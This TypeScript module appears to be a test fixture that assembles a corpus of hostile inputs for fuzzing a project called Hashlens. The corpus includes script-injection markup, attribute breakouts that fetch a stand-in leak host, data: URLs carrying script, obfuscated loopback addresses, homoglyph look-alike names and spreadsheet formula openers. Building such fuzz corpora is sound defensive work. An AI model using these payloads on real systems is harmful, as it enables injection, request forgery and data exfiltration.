import { texts } from '../hostile-values.ts';
import { giantTexts } from './giant.ts';
import { corpusTables as tables } from './tables.ts';
import { unseenTexts } from './unseen.ts';

/** What payloads do if they ever run: they set this global of the world they run in. */
export const trapName = 'hostileRan';

const run = `${trapName}=1`;

/** Keys of JSON that programs stumble over when they copy objects carelessly. */
export const hostileKeys: readonly string[] = tables.keys.map((key) => key.replaceAll('{run}', run));

/** Texts that are markup, or become it where somebody puts text into markup. `leak` is an address that they fetch. */
function markupTexts(leak: string): string[] {
  const fill = (text: string) =>
    text.replaceAll('{run}', run).replaceAll('{send}', `${run};fetch('${leak}')`).replaceAll('{leak}', leak);
  const handlers = tables.handlers.flatMap(([tag, attributes]) => [
    `<${tag} ${attributes}={run}>`,
    `"'><${tag} ${attributes}="{send}">`,
  ]);
  return [...handlers, ...tables.markup].map(fill);
}

/** Texts that are addresses of what must never be opened, asked or shown as a link. `leak` is one that is listening. */
function addressTexts(leak: string): string[] {
  const { host, port } = new URL(leak);
  return [
    ...tables.addresses.map((text) => text.replaceAll('{run}', run).replaceAll('{leak}', leak)),
    `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    `data:image/svg+xml;base64,${btoa(`<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`)}`,
    'data:image/png;base64,iVBORw0KGgo=',
    leak.replace('http:', 'https:'),
    leak.replace('http:', ''),
    leak.replace('http://', 'http:\\\\'),
    leak.replace('http://', 'https://etherscan.io@'),
    leak.replace('http://', 'https://name:password@'),
    `${leak.replace('http:', 'https:')}/x.png`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://2130706433:${port}/`,
    `http://0x7f000001:${port}/`,
    `http://localhost.:${port}/`,
    `//${host}`,
    `https://example.org/${'a'.repeat(3000)}`,
  ];
}

/** Names that pose as others, and as what Hashlens itself says. */
function lookAlikeTexts(): string[] {
  const posing = Object.entries(tables.twins).flatMap(([latin, all]) =>
    all.flatMap((twin) => ['vitalik.eth 0x10dusdc hk'.replaceAll(latin, twin), `${latin}${twin} usdc`]),
  );
  return [...posing, ...tables.posing];
}

/** Texts that machines take for something else: formulas of spreadsheets, queries, paths, headers, names of properties. */
function machineTexts(): string[] {
  const formulas = tables.openers.flatMap((opener) => tables.formulas.map((formula) => `${opener}${formula}`));
  return [...hostileKeys, ...formulas, ...tables.openers, ...tables.machine];
}

/**
 * Every hostile text, once: markup, addresses, what turns or hides text, what poses, what machines stumble over, what is
 * too long, and the malformed ones that the fuzz knows. `leak` is an http address with a port that payloads ask for.
 */
export function hostileCorpus(leak = 'http://leak.example:8080/leak'): readonly string[] {
  return [
    ...new Set([
      ...markupTexts(leak),
      ...addressTexts(leak),
      ...unseenTexts(),
      ...lookAlikeTexts(),
      ...machineTexts(),
      ...giantTexts(),
      ...texts,
    ]),
  ];
}
